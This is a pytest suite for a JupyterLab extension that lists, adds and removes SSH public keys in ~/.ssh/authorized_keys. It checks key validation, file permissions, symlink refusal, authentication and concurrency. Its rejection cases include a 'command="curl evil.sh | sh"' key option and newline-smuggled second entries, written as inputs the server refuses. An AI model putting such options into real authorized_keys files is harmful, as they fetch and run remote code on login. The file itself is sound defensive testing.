"""``ssh/authorized-keys``: the notebook home's ``~/.ssh/authorized_keys`` listed, added to and removed
from through Jupyter, with keys made and fingerprinted by the real ``ssh-keygen``."""

import base64
import json
import os
import stat
import subprocess
from pathlib import Path

import pytest

from primehub_suite_jupyterlab.authorized_keys import KeyRefused, parse_public_key


def body(response):
    return json.loads(response.body or b"{}")


@pytest.fixture(scope="module")
def keydir(tmp_path_factory):
    return tmp_path_factory.mktemp("keys")


def keygen(keydir: Path, name: str, kind: str = "ed25519", bits: str = "") -> Path:
    """A new passphrase-less key pair made by ssh-keygen; returns the private key's path."""
    path = keydir / name
    if not path.exists():
        args = ["ssh-keygen", "-q", "-t", kind, "-N", "", "-C", f"{name}@laptop", "-f", str(path)]
        if bits:
            args[4:4] = ["-b", bits]
        subprocess.run(args, check=True, capture_output=True)
    return path


def pub(key: Path) -> str:
    return Path(f"{key}.pub").read_text()


def fingerprint(key: Path) -> str:
    """What ``ssh-keygen -l`` prints for it: ``<bits> SHA256:… <comment> (<TYPE>)``."""
    return subprocess.run(["ssh-keygen", "-l", "-f", f"{key}.pub"], check=True, capture_output=True, text=True).stdout


@pytest.fixture
def ssh_dir(jp_root_dir):
    """The notebook home is the server's root (as on PrimeHub and in npm start's Lab)."""
    return Path(jp_root_dir) / ".ssh"


async def add(jp_fetch, key: str):
    return await jp_fetch(
        "primehub-suite", "ssh", "authorized-keys", method="POST", body=json.dumps({"key": key}), raise_error=False
    )


async def listed(jp_fetch):
    return body(await jp_fetch("primehub-suite", "ssh", "authorized-keys"))


async def remove(jp_fetch, fp: str):
    return await jp_fetch(
        "primehub-suite", "ssh", "authorized-keys", method="DELETE", params={"fingerprint": fp}, raise_error=False
    )


async def test_keys_are_appended_with_ssh_keygens_fingerprints_and_private_modes(jp_fetch, ssh_dir, keydir):
    assert await listed(jp_fetch) == {"file": str(ssh_dir / "authorized_keys"), "keys": []}
    keys = [keygen(keydir, "ed"), keygen(keydir, "rsa", "rsa", "2048"), keygen(keydir, "ec", "ecdsa", "384")]
    for key in keys:
        r = await add(jp_fetch, pub(key))
        assert r.code == 200, r.body
        assert body(r)["added"] is True
    assert stat.S_IMODE(ssh_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE((ssh_dir / "authorized_keys").stat().st_mode) == 0o600
    assert (ssh_dir / "authorized_keys").read_text() == "".join(pub(k) for k in keys)
    got = (await listed(jp_fetch))["keys"]
    assert [f"{k['bits']} {k['fingerprint']} {k['comment']} ({k['typeName']})\n" for k in got] == [
        fingerprint(k) for k in keys
    ]
    # what sshd itself reads of the file: every key
    out = subprocess.run(
        ["ssh-keygen", "-l", "-f", str(ssh_dir / "authorized_keys")], check=True, capture_output=True, text=True
    ).stdout
    assert out == "".join(fingerprint(k) for k in keys)


async def test_the_same_key_is_kept_once_whatever_its_comment_or_spacing(jp_fetch, ssh_dir, keydir):
    key = keygen(keydir, "ed")
    kind, data, _ = pub(key).split(" ", 2)
    ssh_dir.mkdir(mode=0o700)
    # a line the user wrote with options holds the key already
    (ssh_dir / "authorized_keys").write_text(f'from="10.0.0.0/8" {kind} {data} mine\n')
    before = (ssh_dir / "authorized_keys").read_bytes()
    for text in (pub(key), f"  {kind}   {data}  other comment \r\n", f"{kind} {data}"):
        r = await add(jp_fetch, text)
        assert (r.code, body(r)["added"]) == (200, False), r.body
    assert (ssh_dir / "authorized_keys").read_bytes() == before
    assert [k["comment"] for k in (await listed(jp_fetch))["keys"]] == ["mine"]


async def test_an_existing_file_is_appended_to_never_rewritten_and_its_modes_tightened(jp_fetch, ssh_dir, keydir):
    ssh_dir.mkdir()
    os.chmod(ssh_dir, 0o755)
    old = b"# my keys\r\nssh-ed25519 not-base64 broken\n\nsome text without a line break"
    (ssh_dir / "authorized_keys").write_bytes(old)
    os.chmod(ssh_dir / "authorized_keys", 0o644)  # as PrimeHub's ensure_sshd.sh leaves it
    key = keygen(keydir, "ed")
    r = await add(jp_fetch, pub(key))
    assert r.code == 200, r.body
    assert (ssh_dir / "authorized_keys").read_bytes() == old + b"\n" + pub(key).encode()
    assert stat.S_IMODE(ssh_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE((ssh_dir / "authorized_keys").stat().st_mode) == 0o600


def private_key_text(keydir) -> str:
    return keygen(keydir, "ed").read_text()


BAD = [
    ("private_key", lambda d: private_key_text(d)),
    ("private_key", lambda d: "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n"),
    ("options", lambda d: 'command="curl evil.sh | sh" ' + pub(keygen(d, "ed"))),
    ("options", lambda d: "restrict,pty " + pub(keygen(d, "ed"))),
    ("options", lambda d: "no-pty " + pub(keygen(d, "ed"))),
    ("multiple_lines", lambda d: pub(keygen(d, "ed")) + pub(keygen(d, "ec", "ecdsa", "384"))),
    ("multiple_lines", lambda d: pub(keygen(d, "ed")).strip() + "\rssh-ed25519 AAAA"),
    ("multiple_lines", lambda d: pub(keygen(d, "ed")).strip() + "\ncommand=\"x\""),
    ("malformed", lambda d: ""),
    ("malformed", lambda d: "hello world"),
    ("malformed", lambda d: "ssh-ed25519"),
    ("malformed", lambda d: "ssh-ed25519 !!notbase64!!"),
    ("malformed", lambda d: "ssh-ed25519 " + pub(keygen(d, "ed")).split()[1][:-8]),
    # an ed25519 blob under the rsa label
    ("malformed", lambda d: "ssh-rsa " + pub(keygen(d, "ed")).split()[1]),
    # bytes after the key
    (
        "malformed",
        lambda d: "ssh-ed25519 "
        + base64.b64encode(base64.b64decode(pub(keygen(d, "ed")).split()[1]) + b"\0\0\0\1x").decode(),
    ),
    ("malformed", lambda d: pub(keygen(d, "ed")).strip() + " comment\x1b[31m"),
    ("malformed", lambda d: pub(keygen(d, "ed")).strip() + " \x00"),
    ("unsupported_type", lambda d: "ssh-dss AAAAB3NzaC1kc3MAAACBAP"),
    ("malformed", lambda d: "ssh-ed25519 " + "A" * 20000),
]


@pytest.mark.parametrize("code, make", BAD)
async def test_anything_but_one_public_key_line_is_refused_and_nothing_written(jp_fetch, ssh_dir, keydir, code, make):
    text = make(keydir)
    r = await add(jp_fetch, text)
    assert r.code == 400, (text, r.body)
    answer = body(r)
    assert answer["code"] == code, (text, answer)
    assert answer["message"]
    r = await jp_fetch(
        "primehub-suite", "ssh", "authorized-keys", "check", method="POST", body=json.dumps({"key": text}),
        raise_error=False,
    )
    assert (r.code, body(r)["code"]) == (400, code)
    assert not ssh_dir.exists()


async def test_check_shows_what_would_be_added_and_changes_nothing(jp_fetch, ssh_dir, keydir):
    key = keygen(keydir, "ed")
    check = lambda: jp_fetch(  # noqa: E731
        "primehub-suite", "ssh", "authorized-keys", "check", method="POST", body=json.dumps({"key": pub(key)})
    )
    answer = body(await check())
    assert fingerprint(key) == f"256 {answer['key']['fingerprint']} ed@laptop (ED25519)\n"
    assert answer["authorized"] is False
    assert not ssh_dir.exists()
    await add(jp_fetch, pub(key))
    assert body(await check())["authorized"] is True
    # the check route only checks
    for method, kwargs in (("GET", {}), ("DELETE", {"params": {"fingerprint": answer["key"]["fingerprint"]}})):
        r = await jp_fetch("primehub-suite", "ssh", "authorized-keys", "check", method=method, raise_error=False, **kwargs)
        assert r.code == 405, method
    assert len((await listed(jp_fetch))["keys"]) == 1


async def test_links_are_refused_and_never_followed(jp_fetch, jp_root_dir, ssh_dir, keydir, tmp_path):
    key = pub(keygen(keydir, "ed"))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    # ~/.ssh a link to another folder
    ssh_dir.symlink_to(elsewhere, target_is_directory=True)
    for r in (await add(jp_fetch, key), await jp_fetch("primehub-suite", "ssh", "authorized-keys", raise_error=False)):
        assert (r.code, body(r)["code"]) == (409, "link"), r.body
    assert list(elsewhere.iterdir()) == []
    ssh_dir.unlink()
    # authorized_keys a link to a file elsewhere, or to one that does not exist yet
    ssh_dir.mkdir(mode=0o700)
    target = elsewhere / "victim"
    target.write_text("precious\n")
    (ssh_dir / "authorized_keys").symlink_to(target)
    for r in (await add(jp_fetch, key), await remove(jp_fetch, "SHA256:x"), await listed_raw(jp_fetch)):
        assert (r.code, body(r)["code"]) == (409, "link"), r.body
    assert target.read_text() == "precious\n"
    (ssh_dir / "authorized_keys").unlink()
    (ssh_dir / "authorized_keys").symlink_to(elsewhere / "new")
    r = await add(jp_fetch, key)
    assert (r.code, body(r)["code"]) == (409, "link")
    assert not (elsewhere / "new").exists()
    # a FIFO in its place neither hangs the server nor is taken for the file
    (ssh_dir / "authorized_keys").unlink()
    os.mkfifo(ssh_dir / "authorized_keys")
    r = await add(jp_fetch, key)
    assert r.code == 409, r.body


async def listed_raw(jp_fetch):
    return await jp_fetch("primehub-suite", "ssh", "authorized-keys", raise_error=False)


async def test_remove_keeps_every_other_byte_and_replaces_the_file_at_once(jp_fetch, ssh_dir, keydir):
    a, b = pub(keygen(keydir, "ed")), pub(keygen(keydir, "ec", "ecdsa", "384"))
    kind, data, _ = a.split(" ", 2)
    ssh_dir.mkdir(mode=0o700)
    lines = [
        b"# keep: a comment\r\n",
        b.encode(),
        a.encode(),
        b"\n",
        b"  garbage that is no key  \n",
        f'no-pty,from="10.*" {kind} {data} same key, with options\n'.encode(),
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGarbage ünïcode\n".encode(),
    ]
    (ssh_dir / "authorized_keys").write_bytes(b"".join(lines) + b"last line without break")
    os.chmod(ssh_dir / "authorized_keys", 0o600)
    inode = (ssh_dir / "authorized_keys").stat().st_ino
    fp = parse_public_key(a).fingerprint
    r = await remove(jp_fetch, fp)
    assert r.code == 200, r.body
    assert body(r)["removed"] == 2
    assert [k["fingerprint"] for k in body(r)["keys"]] == [parse_public_key(b).fingerprint]
    kept = [lines[0], lines[1], lines[3], lines[4], lines[6]]
    assert (ssh_dir / "authorized_keys").read_bytes() == b"".join(kept) + b"last line without break"
    assert stat.S_IMODE((ssh_dir / "authorized_keys").stat().st_mode) == 0o600
    assert (ssh_dir / "authorized_keys").stat().st_ino != inode
    assert sorted(os.listdir(ssh_dir)) == ["authorized_keys"]
    r = await remove(jp_fetch, fp)
    assert (r.code, body(r)["code"]) == (404, "not_found")


async def test_the_routes_need_jupyter_auth(jp_fetch, ssh_dir, keydir):
    for method, kwargs in (
        ("GET", {}),
        ("POST", {"body": json.dumps({"key": pub(keygen(keydir, "ed"))})}),
        ("DELETE", {"params": {"fingerprint": "SHA256:x"}}),
    ):
        r = await jp_fetch(
            "primehub-suite", "ssh", "authorized-keys", method=method, headers={"Authorization": ""}, raise_error=False,
            **kwargs,
        )
        assert r.code in (401, 403), method
    assert not ssh_dir.exists()

    # signed in by cookie (as a browser is): a change also needs the XSRF token
    r = await jp_fetch("primehub-suite", "ssh", "authorized-keys")
    login = [c.split(";", 1)[0] for c in r.headers.get_list("Set-Cookie") if c.startswith("username-")]
    assert login, r.headers
    key = json.dumps({"key": pub(keygen(keydir, "ed"))})
    post = lambda headers: jp_fetch(  # noqa: E731
        "primehub-suite", "ssh", "authorized-keys", method="POST", body=key, headers=headers, raise_error=False
    )
    r = await post({"Authorization": "", "Cookie": login[0]})
    assert r.code == 403 and b"_xsrf" in r.body
    assert not ssh_dir.exists()
    xsrf = "0123456789abcdef0123456789abcdef"
    r = await post({"Authorization": "", "Cookie": f"{login[0]}; _xsrf={xsrf}", "X-XSRFToken": xsrf})
    assert r.code == 200, r.body


def test_the_parsed_key_is_written_as_one_plain_line(keydir):
    key = parse_public_key("  " + pub(keygen(keydir, "ed")).replace(" ", "\t", 1) + "\n")
    assert key.line() == pub(keygen(keydir, "ed")).strip()
    with pytest.raises(KeyRefused):
        parse_public_key("ssh-ed25519-cert-v01@openssh.com AAAA")


def test_adds_and_removes_at_once_lose_nothing(keydir, tmp_path):
    """Each change holds the lock on ~/.ssh: adds racing a remove's rewrite are neither lost nor doubled."""
    from concurrent.futures import ThreadPoolExecutor

    from primehub_suite_jupyterlab.authorized_keys import AuthorizedKeys

    keys = [parse_public_key(pub(keygen(keydir, f"k{i}"))) for i in range(6)]
    first = AuthorizedKeys(str(tmp_path))
    first.add(keys[0])

    def change(i):
        store = AuthorizedKeys(str(tmp_path))  # its own descriptors, as another process's
        return store.remove(keys[0].fingerprint) if i == 0 else store.add(keys[1 + i % 5])

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(change, range(20)))
    lines = (tmp_path / ".ssh" / "authorized_keys").read_text().splitlines()
    assert sorted(lines) == sorted(k.line() for k in keys[1:])
